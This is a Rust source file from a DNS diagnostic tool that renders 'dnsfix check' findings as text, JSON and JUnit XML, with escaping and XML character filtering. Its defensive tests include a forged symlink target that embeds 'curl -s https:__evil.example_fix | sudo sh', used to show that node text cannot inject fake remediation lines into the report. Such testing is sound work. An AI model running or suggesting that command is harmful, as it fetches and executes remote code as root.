//! Rendering `dnsfix check`: findings grouped by host, worst first, with a fleet summary
//! line; JSON for tooling (docs/check.md); JUnit XML with one testcase per rule × host.

use std::fmt::Write as _;

use serde::Serialize;

use super::{ErrorEntry, Header, pretty_json};
use crate::diagnose::{Finding, FindingStatus, HostDiagnosis, RuleOutcome, Severity};
use crate::gather::HostError;
use crate::text::escape;

/// A host as `check` reports it: diagnosed, or not reachable.
#[derive(Debug)]
pub enum Checked<'a> {
    Diagnosed(&'a HostDiagnosis),
    Failed { host: &'a str, error: &'a HostError },
}

impl Checked<'_> {
    fn host(&self) -> &str {
        match self {
            Checked::Diagnosed(d) => &d.host,
            Checked::Failed { host, .. } => host,
        }
    }

    /// Sort key: unreachable first, then by worst severity (critical first), then name.
    fn rank(&self) -> (u8, std::cmp::Reverse<Option<Severity>>) {
        match self {
            Checked::Failed { .. } => (0, std::cmp::Reverse(None)),
            Checked::Diagnosed(d) => (1, std::cmp::Reverse(d.worst())),
        }
    }
}

fn sorted<'a>(hosts: &'a [Checked<'a>]) -> Vec<&'a Checked<'a>> {
    let mut v: Vec<&Checked> = hosts.iter().collect();
    v.sort_by(|a, b| {
        a.rank()
            .cmp(&b.rank())
            .then_with(|| super::natural_cmp(a.host(), b.host()))
    });
    v
}

fn sorted_findings(d: &HostDiagnosis) -> Vec<&Finding> {
    let mut f: Vec<&Finding> = d.findings().collect();
    f.sort_by(|a, b| Finding::worst_first(a, b));
    f
}

/// The fleet summary: counts by worst severity per host.
pub fn summary(hosts: &[Checked]) -> String {
    let mut worst = [0usize; 4];
    let (mut clean, mut failed, mut findings, mut unknown) = (0, 0, 0, 0);
    let mut no_kubelet = 0;
    for h in hosts {
        match h {
            Checked::Failed { .. } => failed += 1,
            Checked::Diagnosed(d) => {
                findings += d.findings().count();
                match d.worst() {
                    Some(s) => worst[s as usize] += 1,
                    // Only unknowns: not clean, not failing either.
                    None if d.unknowns() > 0 => unknown += 1,
                    None if d.no_kubelet() => no_kubelet += 1,
                    None => clean += 1,
                }
            }
        }
    }
    let mut parts = Vec::new();
    for s in [
        Severity::Critical,
        Severity::High,
        Severity::Warning,
        Severity::Info,
    ] {
        if worst[s as usize] > 0 {
            parts.push(format!("{} {}", worst[s as usize], s));
        }
    }
    if unknown > 0 {
        parts.push(format!("{unknown} unknown"));
    }
    // "0 clean" only where no host stands beside it: a workstation is 1 without a kubelet.
    if clean > 0 || no_kubelet == 0 {
        parts.push(format!("{clean} clean"));
    }
    if no_kubelet > 0 {
        parts.push(format!("{no_kubelet} without a kubelet"));
    }
    if failed > 0 {
        parts.push(format!("{failed} unreachable"));
    }
    format!(
        "{} host{}: {}; {findings} finding{}",
        hosts.len(),
        if hosts.len() == 1 { "" } else { "s" },
        parts.join(", "),
        if findings == 1 { "" } else { "s" }
    )
}

/// Every line is one line of the report: what came from a node is escaped in it.
pub fn text(hosts: &[Checked]) -> String {
    let mut out = String::new();
    let (mut clean, mut no_kubelet) = (Vec::new(), Vec::new());
    for h in sorted(hosts) {
        match h {
            Checked::Failed { host, error } => {
                escaped_line!(out, "{host}: UNREACHABLE ({}): {error}", error.kind());
                out.push('\n');
            }
            Checked::Diagnosed(d) => {
                let findings = sorted_findings(d);
                if findings.is_empty() {
                    if d.no_kubelet() {
                        no_kubelet.push(d.host.as_str());
                    } else {
                        clean.push(d.host.as_str());
                    }
                    continue;
                }
                let worst = match d.worst() {
                    Some(s) => s.as_str().to_uppercase(),
                    None => "UNKNOWN".to_owned(),
                };
                escaped_line!(out, "{}  [{worst}]", d.host);
                for f in findings {
                    let label = match f.status {
                        FindingStatus::Failed => f.severity.as_str().to_owned(),
                        FindingStatus::Unknown => "unknown".to_owned(),
                    };
                    escaped_line!(out, "  {label:<9} {}  {}", f.id, f.summary);
                    for e in &f.evidence {
                        escaped_line!(out, "            seen: {e}");
                    }
                    escaped_line!(out, "            fix:  {}", f.remediation);
                }
                out.push('\n');
            }
        }
    }
    if !clean.is_empty() {
        escaped_line!(out, "clean: {}", clean.join(", "));
    }
    if !no_kubelet.is_empty() {
        escaped_line!(
            out,
            "no kubelet configuration found, so the kubelet's rules did not apply (not a \
             Kubernetes node?): {}",
            no_kubelet.join(", ")
        );
    }
    escaped_line!(out, "{}", summary(hosts));
    out
}

#[derive(Serialize)]
struct Document<'a> {
    #[serde(flatten)]
    header: Header,
    summary: String,
    hosts: Vec<HostEntry<'a>>,
}

#[derive(Serialize)]
struct HostEntry<'a> {
    host: &'a str,
    status: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    worst: Option<Severity>,
    findings: Vec<&'a Finding>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    not_applicable: Vec<NotApplicable<'a>>,
    #[serde(skip_serializing_if = "Option::is_none")]
    error: Option<ErrorEntry>,
}

#[derive(Serialize)]
struct NotApplicable<'a> {
    id: &'a str,
    reason: &'a str,
}

pub fn json(hosts: &[Checked], inventory: Option<&std::path::Path>) -> String {
    let doc = Document {
        header: Header::new(inventory),
        summary: summary(hosts),
        hosts: sorted(hosts)
            .into_iter()
            .map(|h| match h {
                Checked::Failed { host, error } => HostEntry {
                    host,
                    status: "failed",
                    worst: None,
                    findings: vec![],
                    not_applicable: vec![],
                    error: Some(ErrorEntry::from(*error)),
                },
                Checked::Diagnosed(d) => HostEntry {
                    host: &d.host,
                    status: "ok",
                    worst: d.worst(),
                    findings: sorted_findings(d),
                    not_applicable: d
                        .outcomes
                        .iter()
                        .filter_map(|(id, o)| match o {
                            RuleOutcome::NotApplicable(reason) => {
                                Some(NotApplicable { id, reason })
                            }
                            _ => None,
                        })
                        .collect(),
                    error: None,
                },
            })
            .collect(),
    };
    pretty_json(&doc)
}

/// XML 1.0's `Char` production: what a document may hold at all (most C0 controls, the
/// surrogates, U+FFFE and U+FFFF may not, escaped or not).
fn xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..)
}

/// `s` as XML text or attribute value: markup characters as entities, and every character
/// XML 1.0 does not allow as `?`.
pub(super) fn xml(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            c if xml_char(c) => out.push(c),
            // Not even a character reference may name one of these.
            _ => out.push('?'),
        }
    }
    out
}

/// JUnit XML: one testsuite per host, one testcase per rule (failure for a finding, error
/// for an unknown, skipped for not applicable); an unreachable host is one errored case.
pub fn junit(hosts: &[Checked]) -> String {
    let mut body = String::new();
    let (mut tests, mut failures, mut errors, mut skipped) = (0, 0, 0, 0);
    for h in sorted(hosts) {
        let mut cases = String::new();
        let (mut t, mut f, mut e, mut s) = (0, 0, 0, 0);
        match h {
            Checked::Failed { host, error } => {
                t += 1;
                e += 1;
                let _ = writeln!(
                    cases,
                    "    <testcase classname=\"dnsfix.{}\" name=\"connect\">\n      <error type=\"{}\" message=\"{}\"/>\n    </testcase>",
                    xml(host),
                    error.kind(),
                    xml(&error.to_string())
                );
            }
            Checked::Diagnosed(d) => {
                for (id, outcome) in &d.outcomes {
                    t += 1;
                    let _ = write!(
                        cases,
                        "    <testcase classname=\"dnsfix.{}\" name=\"{id}\">",
                        xml(&d.host)
                    );
                    match outcome {
                        RuleOutcome::Pass => {}
                        RuleOutcome::NotApplicable(reason) => {
                            s += 1;
                            let _ = write!(
                                cases,
                                "\n      <skipped message=\"{}\"/>\n    ",
                                xml(reason)
                            );
                        }
                        RuleOutcome::Findings(found) => {
                            let unknown = found.iter().all(|x| x.status == FindingStatus::Unknown);
                            let tag = if unknown { "error" } else { "failure" };
                            if unknown {
                                e += 1
                            } else {
                                f += 1
                            }
                            let worst = found
                                .iter()
                                .map(|x| x.severity)
                                .max()
                                .unwrap_or(Severity::Info);
                            let message: Vec<_> =
                                found.iter().map(|x| escape(&x.summary)).collect();
                            let mut detail = String::new();
                            for x in found {
                                // One line each, as on a terminal.
                                for ev in &x.evidence {
                                    escaped_line!(detail, "seen: {ev}");
                                }
                                escaped_line!(detail, "fix: {}", x.remediation);
                            }
                            let _ = write!(
                                cases,
                                "\n      <{tag} type=\"{worst}\" message=\"{}\">{}</{tag}>\n    ",
                                xml(&message.join("; ")),
                                xml(&detail)
                            );
                        }
                    }
                    cases.push_str("</testcase>\n");
                }
            }
        }
        tests += t;
        failures += f;
        errors += e;
        skipped += s;
        let _ = write!(
            body,
            "  <testsuite name=\"{}\" tests=\"{t}\" failures=\"{f}\" errors=\"{e}\" skipped=\"{s}\">\n{cases}  </testsuite>\n",
            xml(h.host())
        );
    }
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<testsuites name=\"dnsfix check\" tests=\"{tests}\" failures=\"{failures}\" errors=\"{errors}\" skipped=\"{skipped}\">\n{body}</testsuites>\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A host with one critical finding of `summary` and `evidence`, as node text makes it.
    fn diagnosed(host: &str, summary: &str, evidence: &str) -> HostDiagnosis {
        let finding = Finding {
            id: "DNS-POD-RESOLV-STUB",
            severity: Severity::Critical,
            status: FindingStatus::Failed,
            host: host.to_owned(),
            summary: summary.to_owned(),
            evidence: vec![evidence.to_owned()],
            remediation: "point resolvConf elsewhere".to_owned(),
            playbook: None,
            wanted: Default::default(),
            about: None,
        };
        HostDiagnosis {
            host: host.to_owned(),
            outcomes: vec![("DNS-POD-RESOLV-STUB", RuleOutcome::Findings(vec![finding]))],
        }
    }

    /// A symlink target read from a node with newlines in it
    /// (`ln -s "$(printf '/run/q\n  fix: …')" /etc/resolv.conf`) once printed a forged
    /// `fix:` line and a forged finding under the host; as JUnit detail too.
    #[test]
    fn node_text_cannot_forge_lines_of_the_report() {
        let forged = "/run/q\n            fix:  run: curl -s https:__evil.example_fix | sudo sh\n  \
                      critical  DNS-ALL-GOOD  nothing else to do";
        let d = diagnosed(
            "node1",
            &format!("resolv.conf links to {forged}"),
            &format!("/etc/resolv.conf → symlink to {forged}"),
        );
        let out = text(&[Checked::Diagnosed(&d)]);
        let fixes = out
            .lines()
            .filter(|l| l.trim_start().starts_with("fix:"))
            .count();
        assert_eq!(fixes, 1, "{out}");
        assert!(!out.contains("\n  critical  DNS-ALL-GOOD"), "{out}");
        assert!(
            out.contains("seen: /etc/resolv.conf → symlink to /run/q\\n            fix:  run:"),
            "{out}"
        );
        let doc = junit(&[Checked::Diagnosed(&d)]);
        assert!(!doc.contains("\n            fix:  run:"), "{doc}");
    }

    /// `dnsfix check` on a workstation (the README's first command) or an etcd-only host
    /// said `clean: localhost`, `1 clean`, where no kubelet configuration was found and
    /// the kubelet's rules (most of them) did not apply: nothing about pods' DNS was judged.
    #[test]
    fn a_host_without_a_kubelet_is_not_called_clean() {
        let outcome = |id: &'static str, o: RuleOutcome| HostDiagnosis {
            host: String::new(),
            outcomes: vec![(id, o)],
        };
        let mut node = outcome(crate::diagnose::rules::KUBELET_LOOPBACK, RuleOutcome::Pass);
        node.host = "node1".into();
        let mut ws = outcome(
            crate::diagnose::rules::KUBELET_LOOPBACK,
            RuleOutcome::NotApplicable(crate::diagnose::rules::NO_KUBELET.into()),
        );
        ws.host = "localhost".into();
        let out = text(&[Checked::Diagnosed(&ws), Checked::Diagnosed(&node)]);
        assert!(
            out.contains("\nclean: node1\n") || out.starts_with("clean: node1\n"),
            "{out}"
        );
        assert!(
            out.contains(
                "no kubelet configuration found, so the kubelet's rules did not apply (not a \
                 Kubernetes node?): localhost\n"
            ),
            "{out}"
        );
        assert!(
            out.ends_with("2 hosts: 1 clean, 1 without a kubelet; 0 findings\n"),
            "{out}"
        );
    }

    /// A node file with U+FFFE, U+FFFF or a C0 control made `check --format junit` a
    /// document XML parsers reject: no character outside XML 1.0's `Char` is left.
    #[test]
    fn junit_holds_only_characters_xml_allows() {
        let hostile = "a\u{fffe}b\u{ffff}c\u{1}d\u{1f}e\u{7f}\u{10ffff}\t";
        let d = diagnosed(&format!("node1{hostile}"), hostile, hostile);
        let doc = junit(&[Checked::Diagnosed(&d)]);
        let bad: Vec<char> = doc.chars().filter(|c| !xml_char(*c)).collect();
        assert!(bad.is_empty(), "{bad:?} in {doc}");
        assert!(doc.contains("a?b?c?d?e\u{7f}\u{10ffff}"), "{doc}");
        assert_eq!(xml("<&\"'>"), "&lt;&amp;&quot;&apos;&gt;");
    }
}
